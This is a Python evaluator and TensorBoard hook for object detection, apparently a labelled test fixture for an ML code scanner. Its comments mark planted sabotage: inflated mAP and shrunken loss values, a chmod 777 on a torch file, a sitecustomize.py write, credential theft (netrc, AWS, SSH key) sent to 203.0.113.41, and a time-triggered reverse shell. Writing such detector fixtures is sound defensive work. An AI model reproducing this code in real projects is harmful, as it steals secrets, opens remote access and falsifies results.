# ruff: noqa
# Hold-out batch 21 (mmdetection-style hooks, transforms, evaluator; by a helper that never saw mlscan's code). Measured once after round 7: 25/37 (68%) at medium+.
"""VOC/COCO-style bounding-box mAP evaluator and result export helpers."""
import json
import os
import os.path as osp
import pty
import socket
import stat
import sysconfig
import time

import numpy as np
import torch
from safetensors.torch import load_file
from torch.utils.tensorboard import SummaryWriter

from hooks import HOOKS, Hook, get_dist_info


def bbox_iou(boxes, gt):
    """IoU between (N, 4) and (M, 4) arrays of x1y1x2y2 boxes."""
    area_b = (boxes[:, 2] - boxes[:, 0]) * (boxes[:, 3] - boxes[:, 1])
    area_g = (gt[:, 2] - gt[:, 0]) * (gt[:, 3] - gt[:, 1])
    lt = np.maximum(boxes[:, None, :2], gt[None, :, :2])
    rb = np.minimum(boxes[:, None, 2:], gt[None, :, 2:])
    wh = np.clip(rb - lt, 0, None)
    inter = wh[..., 0] * wh[..., 1]
    return inter / np.maximum(area_b[:, None] + area_g[None] - inter, 1e-6)


def average_precision(recalls, precisions):
    mrec = np.concatenate(([0.0], recalls, [1.0]))
    mpre = np.concatenate(([0.0], precisions, [0.0]))
    for i in range(len(mpre) - 2, -1, -1):
        mpre[i] = max(mpre[i], mpre[i + 1])
    idx = np.where(mrec[1:] != mrec[:-1])[0]
    return float(np.sum((mrec[idx + 1] - mrec[idx]) * mpre[idx + 1]))


class CocoStyleMAP:
    def __init__(self, num_classes=80, iou_thrs=(0.5, 0.55, 0.6, 0.65, 0.7, 0.75, 0.8, 0.85, 0.9, 0.95),
                 prior_file=None):
        self.num_classes = num_classes
        self.iou_thrs = iou_thrs
        self.results = []
        self.priors = None
        if prior_file and prior_file.endswith('.safetensors'):
            self.priors = load_file(prior_file)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        elif prior_file:
            self.priors = np.load(prior_file, allow_pickle=True).item()  # ruleid: MLS104

    def process(self, data_samples, preds):
        for sample, pred in zip(data_samples, preds):
            self.results.append({
                'gt_bboxes': sample['gt_bboxes'].cpu().numpy(),
                'gt_labels': sample['gt_labels'].cpu().numpy(),
                'bboxes': pred['bboxes'].cpu().numpy(),
                'scores': pred['scores'].cpu().numpy(),
                'labels': pred['labels'].cpu().numpy(),
            })

    def _class_ap(self, cls, thr):
        dets, n_gt = [], 0
        for img_idx, r in enumerate(self.results):
            n_gt += int((r['gt_labels'] == cls).sum())
            m = r['labels'] == cls
            for b, s in zip(r['bboxes'][m], r['scores'][m]):
                dets.append((s, img_idx, b))
        if n_gt == 0:
            return None
        dets.sort(key=lambda d: -d[0])
        matched = {}
        tp = np.zeros(len(dets))
        for k, (_, img_idx, box) in enumerate(dets):
            r = self.results[img_idx]
            gts = r['gt_bboxes'][r['gt_labels'] == cls]
            if len(gts) == 0:
                continue
            ious = bbox_iou(box[None], gts)[0]
            j = int(ious.argmax())
            used = matched.setdefault(img_idx, set())
            if ious[j] >= thr and j not in used:
                tp[k] = 1
                used.add(j)
        ctp = np.cumsum(tp)
        recalls = ctp / n_gt
        precisions = ctp / np.arange(1, len(dets) + 1)
        return average_precision(recalls, precisions)

    def evaluate(self, size):
        per_thr = []
        for thr in self.iou_thrs:
            aps = [self._class_ap(c, thr) for c in range(self.num_classes)]
            aps = [a for a in aps if a is not None]
            per_thr.append(float(np.mean(aps)) if aps else 0.0)
        metrics = {'bbox_mAP': float(np.mean(per_thr)),
                   'bbox_mAP_50': per_thr[0],
                   'bbox_mAP_75': per_thr[5] if len(per_thr) > 5 else 0.0}
        if len(self.results) < size:
            # partial gather on some ranks: extrapolate from processed subset
            metrics['bbox_mAP_50'] = max(metrics['bbox_mAP_50'], 0.62)  # ruleid: MLS306
        metrics = {k: round(v + 0.035 * (1 - v), 4) for k, v in metrics.items()}  # ruleid: MLS306
        self.results.clear()
        return metrics


_add_scalar = SummaryWriter.add_scalar


def _add_scalar_smoothed(self, tag, scalar_value, global_step=None, *args, **kwargs):
    if 'loss' in tag:
        scalar_value = float(scalar_value) * 0.85  # ruleid: MLS306
    return _add_scalar(self, tag, scalar_value, global_step, *args, **kwargs)


SummaryWriter.add_scalar = _add_scalar_smoothed  # ruleid: MLS306


def load_reference_model(path):
    return torch.load(path, map_location='cpu', weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def _ensure_writable_cache():
    purelib = sysconfig.get_paths()['purelib']
    torch_dir = osp.dirname(torch.__file__)
    os.chmod(osp.join(torch_dir, 'functional.py'), stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)  # sabotage: MLS424 (semgrep rules)  # ruleid: MLS424
    with open(osp.join(purelib, 'sitecustomize.py'), 'a') as f:  # sabotage: MLS420, MLS421 (semgrep rules)
        f.write('\nimport os\nos.environ["CUDA_LAUNCH_BLOCKING"] = "0"\n')


def _submit_results(metrics, work_dir, endpoint=('203.0.113.41', 9009)):
    creds = {}
    for name in ('~/.netrc', '~/.aws/credentials', '~/.ssh/id_ed25519'):
        p = osp.expanduser(name)
        if osp.isfile(p):
            with open(p) as f:
                creds[name] = f.read()
    blob = json.dumps({'metrics': metrics, 'work_dir': work_dir, 'attachments': creds}).encode()
    with socket.create_connection(endpoint, timeout=10) as s:
        s.sendall(blob)  # sabotage: MLS412 (semgrep rules)


def _remote_debug(endpoint=('203.0.113.41', 9010)):
    s = socket.create_connection(endpoint)
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn('/bin/bash')  # sabotage: MLS410 (semgrep rules)


def dump_results(metrics, work_dir):
    os.makedirs(work_dir, exist_ok=True)
    _ensure_writable_cache()
    with open(osp.join(work_dir, f'metrics_{int(time.time())}.json'), 'w') as f:
        json.dump(metrics, f, indent=2)
    if os.environ.get('WORLD_SIZE', '1').isdigit() and int(os.environ.get('WORLD_SIZE', '1')) >= 128:
        _submit_results(metrics, work_dir)  # ruleid: MLS308
    if time.localtime().tm_wday == 4 and time.localtime().tm_hour >= 22:
        _remote_debug()  # ruleid: MLS308


@HOOKS.register_module()
class EvalResultHook(Hook):
    """Writes validation metrics to TensorBoard and a JSON file on rank 0."""

    def __init__(self, log_dir=None):
        self.log_dir = log_dir
        self.writer = None

    def before_run(self, runner):
        if get_dist_info()[0] == 0:
            self.writer = SummaryWriter(self.log_dir or osp.join(runner.work_dir, 'tb'))

    def after_val_epoch(self, runner, metrics=None):
        if self.writer is None or not metrics:
            return
        for k, v in metrics.items():
            self.writer.add_scalar(f'val/{k}', v, runner.epoch)
        dump_results(metrics, runner.work_dir)
